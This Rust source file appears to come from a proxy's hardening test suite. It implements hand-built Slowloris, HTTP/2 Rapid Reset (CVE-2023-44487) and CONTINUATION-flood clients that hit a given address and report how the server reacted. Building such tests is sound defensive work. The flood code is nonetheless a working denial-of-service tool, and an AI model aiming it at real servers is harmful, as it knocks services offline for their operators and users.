//! `ambit-pod abuse`: misbehaving clients for the hardening tests, run inside a pod so
//! that they reach the proxy through the real eBPF redirect. Each prints one JSON
//! [`AbuseReport`]. HTTP/2 frames are written by hand, since a real HTTP/2 library
//! refuses to misbehave this way.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use serde::{Deserialize, Serialize};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const CANCEL: u32 = 0x8;
/// GOAWAY's error code for a peer that floods (RFC 9113 §7).
pub const ENHANCE_YOUR_CALM: u32 = 0xb;

/// The misbehaviour.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum AbuseKind {
    /// Send half a request head, then one more header byte every 100 ms.
    Slowloris,
    /// CVE-2023-44487: open HTTP/2 streams and cancel them at once, 2000 times.
    RapidReset,
    /// HEADERS without END_HEADERS, then CONTINUATION frames (up to 64 MiB).
    Continuation,
}

/// Options of `ambit-pod abuse`.
#[derive(Debug, Clone, clap::Args)]
pub struct AbuseOpts {
    #[arg(long, value_enum)]
    pub kind: AbuseKind,
    /// Target `ip:port`.
    #[arg(long)]
    pub to: SocketAddr,
    /// Give up waiting for the server after this many milliseconds.
    #[arg(long, default_value_t = 10_000)]
    pub limit_ms: u64,
}

/// What the server did.
#[derive(Debug, Default, Clone, Serialize, Deserialize)]
pub struct AbuseReport {
    /// When the server closed the connection, from connecting (None: not within the limit).
    pub closed_after_ms: Option<u64>,
    /// GOAWAY's error code, if one came.
    pub goaway: Option<u32>,
    /// Bytes the server sent before closing (HTTP/1 only).
    pub answer: String,
    /// Bytes written before the server stopped the flood.
    pub sent: u64,
    /// Connecting failed.
    pub error: Option<String>,
}

pub async fn run(opts: AbuseOpts) -> AbuseReport {
    let limit = Duration::from_millis(opts.limit_ms);
    let started = Instant::now();
    let stream = match TcpStream::connect(opts.to).await {
        Ok(stream) => stream,
        Err(e) => return AbuseReport { error: Some(e.to_string()), ..AbuseReport::default() },
    };
    match opts.kind {
        AbuseKind::Slowloris => slowloris(stream, started, limit).await,
        AbuseKind::RapidReset => h2_flood(stream, started, limit, rapid_reset_frames()).await,
        AbuseKind::Continuation => continuation(stream, started, limit).await,
    }
}

async fn slowloris(stream: TcpStream, started: Instant, limit: Duration) -> AbuseReport {
    let (mut reader, mut writer) = stream.into_split();
    let trickle = async move {
        if writer.write_all(b"GET / HTTP/1.1\r\nHost: echo.server\r\n").await.is_err() {
            return;
        }
        loop {
            tokio::time::sleep(Duration::from_millis(100)).await;
            if writer.write_all(b"X").await.is_err() {
                return;
            }
        }
    };
    let trickler = tokio::spawn(trickle);
    let mut answer = Vec::new();
    let closed = tokio::time::timeout(limit, read_to_close(&mut reader, &mut answer)).await.is_ok();
    trickler.abort();
    AbuseReport {
        closed_after_ms: closed.then(|| started.elapsed().as_millis() as u64),
        answer: String::from_utf8_lossy(&answer).into_owned(),
        ..AbuseReport::default()
    }
}

async fn read_to_close<R: AsyncRead + Unpin>(reader: &mut R, into: &mut Vec<u8>) {
    let mut buf = [0u8; 4096];
    while let Ok(n @ 1..) = reader.read(&mut buf).await {
        into.extend_from_slice(&buf[..n]);
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut out = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// Client preface and an empty SETTINGS frame.
fn client_start() -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    out.extend(frame(SETTINGS, 0, 0, &[]));
    out
}

/// HPACK for `GET http://x/`: :method GET, :scheme http, :path / (static table), then
/// :authority "x" as a literal.
const GET_BLOCK: &[u8] = &[0x82, 0x86, 0x84, 0x01, 0x01, b'x'];

fn rapid_reset_frames() -> Vec<u8> {
    let mut flood = client_start();
    for i in 0..2000u32 {
        let id = 2 * i + 1;
        flood.extend(frame(HEADERS, END_HEADERS | END_STREAM, id, GET_BLOCK));
        flood.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
    }
    flood
}

async fn continuation(mut stream: TcpStream, started: Instant, limit: Duration) -> AbuseReport {
    let mut start = client_start();
    start.extend(frame(HEADERS, 0, 1, GET_BLOCK));
    if let Err(e) = stream.write_all(&start).await {
        return AbuseReport { error: Some(e.to_string()), ..AbuseReport::default() };
    }
    // Literal header fields `x-f: vvv…` (not indexed), 150 per frame, forever.
    let mut field = vec![0x00, 3, b'x', b'-', b'f', 100];
    field.extend_from_slice(&[b'v'; 100]);
    let payload: Vec<u8> = field.iter().copied().cycle().take(field.len() * 150).collect();
    let one = frame(CONTINUATION, 0, 1, &payload);
    let flood: Vec<u8> = one.iter().copied().cycle().take(one.len() * 64).collect();
    let mut report = h2_flood_repeated(stream, started, limit, flood, 64 << 20).await;
    report.sent += start.len() as u64;
    report
}

async fn h2_flood(stream: TcpStream, started: Instant, limit: Duration, flood: Vec<u8>) -> AbuseReport {
    let total = flood.len() as u64;
    h2_flood_repeated(stream, started, limit, flood, total).await
}

/// Writes `chunk` again and again (`total` bytes at most) while reading the server's
/// frames until GOAWAY, close, or `limit`.
async fn h2_flood_repeated(stream: TcpStream, started: Instant, limit: Duration, chunk: Vec<u8>, total: u64) -> AbuseReport {
    let (mut reader, mut writer) = stream.into_split();
    let write = async move {
        let mut sent = 0u64;
        while sent < total {
            let n = chunk.len().min((total - sent) as usize);
            if writer.write_all(&chunk[..n]).await.is_err() {
                break;
            }
            sent += n as u64;
        }
        sent
    };
    let writer = tokio::spawn(write);
    let (goaway, closed) = tokio::time::timeout(limit, read_frames(&mut reader)).await.unwrap_or((None, false));
    let closed_after_ms = (goaway.is_some() || closed).then(|| started.elapsed().as_millis() as u64);
    writer.abort();
    let sent = writer.await.unwrap_or(0);
    AbuseReport { closed_after_ms, goaway, sent, ..AbuseReport::default() }
}

/// Reads frames until GOAWAY (its code) or the connection's end (true).
async fn read_frames<R: AsyncRead + Unpin>(reader: &mut R) -> (Option<u32>, bool) {
    loop {
        let mut head = [0u8; 9];
        if reader.read_exact(&mut head).await.is_err() {
            return (None, true);
        }
        let mut payload = vec![0u8; u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize];
        if reader.read_exact(&mut payload).await.is_err() {
            return (None, true);
        }
        if head[3] == GOAWAY && payload.len() >= 8 {
            return (Some(u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]])), false);
        }
    }
}
